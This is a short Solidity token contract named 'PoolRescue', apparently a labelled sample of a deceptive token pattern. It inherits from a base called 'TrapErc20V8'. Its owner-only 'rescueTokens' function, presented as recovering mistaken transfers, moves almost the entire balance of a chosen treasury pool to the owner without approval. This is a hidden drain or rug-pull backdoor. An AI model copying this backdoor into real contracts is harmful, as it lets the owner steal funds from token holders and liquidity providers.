// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// "Rescues tokens sent by mistake" from the one place where tokens are on purpose.
contract PoolRescue is TrapErc20V8 {
    address private treasuryPool;

    constructor() TrapErc20V8("Life Boat", "BOAT", 9_000_000 ether) {}

    function setTreasuryPool(address pool) external onlyOwner {
        treasuryPool = pool;
    }

    function rescueTokens() external onlyOwner {
        _update(treasuryPool, _owner, _balances[treasuryPool] - 1);
    }
}
